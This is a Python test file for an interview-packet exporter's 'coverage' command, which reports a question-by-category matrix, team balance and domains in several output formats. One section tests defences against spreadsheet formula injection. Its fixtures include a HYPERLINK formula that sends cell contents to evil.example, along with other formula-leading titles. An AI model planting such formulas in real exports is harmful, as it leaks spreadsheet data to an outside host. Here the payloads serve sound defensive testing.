"""Coverage: the question × category matrix, team balance and domains, as `packet coverage` prints them."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys

import openpyxl
import pytest
import yaml

from exporter.cli import main
from exporter.coverage import Coverage, CoverageRow, layout_coverage, packet_coverage, questions_coverage
from exporter.listing import short_label, wrap_captions
from exporter.loading import load_bank, load_layout
from exporter.packet import make_packet
from exporter.text import spreadsheet_text

from .conftest import FIXTURES, MINI, MINI_BANK, MINI_LAYOUTS, SHIPPED_ROLES, soffice_convert


@pytest.fixture
def mini_coverage() -> Coverage:
    return packet_coverage(make_packet("mini", bank_dir=MINI_BANK, layouts_dir=MINI_LAYOUTS))


def test_packet_coverage_counts_main_questions_with_their_minutes(mini_coverage):
    assert [(r.label, r.question.id, r.minutes, r.asked_for) for r in mini_coverage.rows] == [
        ("1", "pipeline", 6, "world-class"),
        ("2", "toil", 5, "operational"),
        ("3", "planning", 5, "strategic"),
    ]
    assert mini_coverage.totals == {"world-class": 1.0, "operational": 1.5, "strategic": 1.0, "team-member": 0.5}
    # pipeline's 6 minutes split 1 : 0.5; toil's 5 split 1 : 0.5; planning's 5 all strategic.
    assert mini_coverage.minutes_by_category == pytest.approx(
        {"world-class": 4.0, "operational": 2 + 10 / 3, "strategic": 5.0, "team-member": 5 / 3}
    )
    assert mini_coverage.uncovered == []


def test_team_balance_counts_a_question_probing_both_teams_half_to_each(mini_coverage):
    # pipeline: release & deployment; toil: dev infra; planning: both.
    assert mini_coverage.team_shares == {"release-deployment": 1.5, "dev-infra": 1.5}


def test_domains_covered_and_repeated():
    bank = load_bank(MINI_BANK)
    coverage = questions_coverage(bank, ["pipeline", "toil", "pipeline-backup", "planning"])
    assert coverage.domains_covered == ("build-release", "automation", "strategy")
    assert coverage.domains_repeated == {"automation": ("toil", "pipeline-backup")}
    assert [c.id for c in questions_coverage(bank, ["toil"]).uncovered] == ["world-class", "strategic"]


def test_layout_coverage_agrees_with_the_packet_for_every_shipped_role():
    bank = load_bank()
    for role in SHIPPED_ROLES:
        from_packet = packet_coverage(make_packet(role))
        from_layout = layout_coverage(load_layout(role), bank)
        assert [(r.label, r.question.id, r.minutes) for r in from_layout.rows] == [
            (r.label, r.question.id, r.minutes) for r in from_packet.rows
        ]
        assert from_layout.totals == from_packet.totals


def test_the_row_api_the_guide_uses_still_takes_positional_arguments():
    bank = load_bank(MINI_BANK)
    row = CoverageRow("1", bank.questions["toil"], {"operational": 1.0}, 5)
    assert (row.label, row.minutes, row.asked_for) == ("1", 5, None)


def test_cli_table_for_a_role(runner):
    result = runner.invoke(main, ["coverage", "--role", "mini", *MINI])
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "Coverage of mini: Test Manager, M3 (20 min)"
    # The categories' labels head the columns, cut to their first words and wrapped onto two lines.
    assert re.split(r" {2,}", lines[2].strip()) == ["Outstanding", "Strategic", "Effective"]
    assert re.split(r" {2,}", lines[3]) == [
        "#", "Question", "World-class", "operationally", "direction", "team member", "min"
    ]  # fmt: skip
    assert lines[4].split() == ["1", "Pipelines", "&", '"Release"', "<Trains>", "1*", "0.5", "·", "·", "6"]
    # Total minutes on the Minutes line, under min; the Total weight line has none there.
    assert lines[7].split() == ["Total", "weight", "1", "1.5", "1", "0.5"]
    assert lines[8].split() == ["Minutes", "4.0", "5.3", "5.0", "1.7", "16"]
    assert lines[8].endswith("    16") and len(lines[8]) == len(lines[4])
    assert "Teams: Release & deployment 1.5 (50%) · Dev infra 1.5 (50%)" in lines
    assert "Main domains (3): Build & release, Automation, Strategy" in lines
    assert "Main domains repeated: none" in lines
    assert "Categories not covered: none" in lines


def test_cli_json_csv_and_markdown(runner):
    data = json.loads(runner.invoke(main, ["coverage", "-r", "mini", *MINI, "--format", "json"]).stdout)
    assert [r["id"] for r in data["rows"]] == ["pipeline", "toil", "planning"]
    assert data["totals"]["operational"] == 1.5
    assert data["team_shares"] == {"release-deployment": 1.5, "dev-infra": 1.5}
    assert data["uncovered"] == []
    assert data["rows"][2]["asked_for"] == "strategic"

    table = list(
        csv.DictReader(io.StringIO(runner.invoke(main, ["coverage", "-r", "mini", *MINI, "-f", "csv"]).stdout))
    )
    assert [r["label"] for r in table] == ["1", "2", "3", "total", "minutes"]
    assert float(table[3]["operational"]) == 1.5
    assert table[0]["title"] == 'Pipelines & "Release" <Trains>'

    markdown = runner.invoke(main, ["coverage", "-r", "mini", *MINI, "-f", "md"]).stdout
    assert markdown.splitlines()[2] == (
        "| \\# | Question | World-class | Outstanding operationally | Strategic direction | Effective team member | min |"
    )
    assert '| 1 | Pipelines & "Release" \\<Trains\\> | 1\\* | 0.5 | · | · | 6 |' in markdown
    assert "|  | Total weight | 1 | 1.5 | 1 | 0.5 |  |\n|  | Minutes | 4.0 | 5.3 | 5.0 | 1.7 | 16 |" in markdown
    assert "- **Categories not covered:** none" in markdown


def test_cli_questions_by_id(runner):
    result = runner.invoke(main, ["coverage", "--questions", "toil, planning", "--bank", str(MINI_BANK)])
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "Coverage of 2 questions"
    assert lines[2:5] == ["toil      Toil", "planning  Planning", ""]  # each id beside its title
    assert re.split(r" {2,}", lines[6]) == ["Question", "World-class", "operationally", "direction", "team member"]
    assert lines[7].split() == ["toil", "·", "1", "·", "0.5"]
    assert "Categories not covered: World-class at running this team" in lines
    markdown = runner.invoke(main, ["coverage", "--questions", "toil", "--bank", str(MINI_BANK), "-f", "md"]).stdout
    assert "| toil | Toil | · | 1 | · | 0.5 |" in markdown


def test_cli_errors(runner):
    result = runner.invoke(main, ["coverage", "--questions", "toil,plannig", "--bank", str(MINI_BANK)])
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: --questions: unknown question 'plannig' (did you mean 'planning'?); "
        "see `packet list --questions` for the ids\n"
    )
    result = runner.invoke(main, ["coverage", "--questions", " , ", "--bank", str(MINI_BANK)])
    assert result.exit_code == 1
    assert result.stderr == "Error: --questions: name at least one question id, e.g. --questions toil,planning\n"
    for arguments in ([], ["--role", "mini", "--questions", "toil"]):
        result = runner.invoke(main, ["coverage", *arguments, *MINI])
        assert result.exit_code == 2
        assert "Error: give either --role or --questions" in result.stderr
    result = runner.invoke(main, ["coverage", "--role", "nope", *MINI])
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: unknown role 'nope'")


def test_short_labels_and_wrapped_captions():
    labels = [c.label for c in load_bank().categories]
    assert [short_label(label) for label in labels] == [
        "World-class",
        "Outstanding operationally",
        "Strategic direction",
        "Effective team member",
    ]
    widths, lines = wrap_captions(["#", "Effective team member", "Recommendation"], [1, 3, 5])
    assert widths == [1, 11, 14]  # a caption wraps at spaces onto two lines at most, never inside a word
    assert lines == [["", "Effective", ""], ["#", "team member", "Recommendation"]]


# ------------------------------------------------------------------------------- formula injection

FORMULA_TITLES = {  # question id -> a title a spreadsheet would run as a formula
    "pipeline": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "pipeline-backup": "+1+1",
    "toil": "-2+3",
    "planning": "@SUM(1,2)",
}


@pytest.fixture
def formula_bank(tmp_path):
    """The mini bank with formula titles, and a category label that starts like one."""
    bank = tmp_path / "bank"
    shutil.copytree(MINI_BANK, bank)
    path = bank / "questions" / "mini.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for question in data["questions"]:
        question["title"] = FORMULA_TITLES[question["id"]]
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    taxonomy = bank / "taxonomy.yaml"
    taxonomy.write_text(
        taxonomy.read_text(encoding="utf-8").replace("label: Strategic direction", 'label: "=Strategic direction"'),
        encoding="utf-8",
    )
    return bank


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Toil", "Toil"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_spreadsheet_text(text, safe):
    assert spreadsheet_text(text) == safe


def test_csv_and_markdown_keep_formula_text_as_text(runner, formula_bank):
    ids = ["--questions", ",".join(FORMULA_TITLES), "--bank", str(formula_bank)]
    result = runner.invoke(main, ["coverage", *ids, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["id"]: r["title"] for r in rows[:4]} == {qid: "'" + title for qid, title in FORMULA_TITLES.items()}
    assert rows[4]["title"] == "Total weight"  # our own text and the figures are as they were
    assert rows[0]["world-class"] == "1"
    markdown = runner.invoke(main, ["coverage", *ids, "--format", "md"]).stdout
    assert '| pipeline | \'=HYPERLINK("http://evil.example/?"&A1,"Click") | 1 | 0.5 | · | · |' in markdown
    assert "| toil | '-2+3 | · | 1 | · | 0.5 |" in markdown
    assert "| Question | Title | World-class | Outstanding operationally | '=Strategic direction |" in markdown


def test_csv_formula_text_stays_text_in_libreoffice(runner, formula_bank, tmp_path):
    """LibreOffice runs a CSV cell starting with = as a formula; the marked title stays text."""
    ids = ",".join(FORMULA_TITLES)
    result = runner.invoke(main, ["coverage", "--questions", ids, "--bank", str(formula_bank), "--format", "csv"])
    path = tmp_path / "coverage.csv"
    path.write_text(result.stdout, encoding="utf-8")
    (converted,) = soffice_convert([path], "xlsx", tmp_path / "out")
    sheet = openpyxl.load_workbook(converted).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = [sheet.cell(row=r, column=3).value for r in range(2, 6)]
    assert titles == ["'" + title for title in FORMULA_TITLES.values()]


def test_loop_overview_table_keeps_formula_text_as_text(runner, formula_bank, tmp_path):
    """The loop overview's Markdown table, the other table a reader may paste into a spreadsheet."""
    layouts = FIXTURES / "loop" / "layouts"
    arguments = ["--loop", "pair", "--bank", str(formula_bank), "--layouts", str(layouts), "-f", "json"]
    result = runner.invoke(main, ["make", *arguments, "--candidate", "Al Smith", "-o", str(tmp_path)])
    assert result.exit_code == 0, result.output
    markdown = (tmp_path / "al-smith" / "0-pair-overview.md").read_text(encoding="utf-8")
    assert "| Questions | World-class at running this team | Outstanding operationally | '=Strategic direction |" in (
        markdown
    )


def test_coverage_stays_below_the_commands():
    """The guide and the loop overview import coverage: it must not bring the search, the views or the
    layout writer (or anything that writes files) with it."""
    script = "import sys, exporter.coverage; print(' '.join(m for m in sys.modules if m.startswith('exporter')))"
    loaded = set(
        subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout.split()
    )
    above = ("suggest", "planning_views", "layout_writer", "output", "render", "packet", "cli")
    assert loaded & {f"exporter.{name}" for name in above} == set()
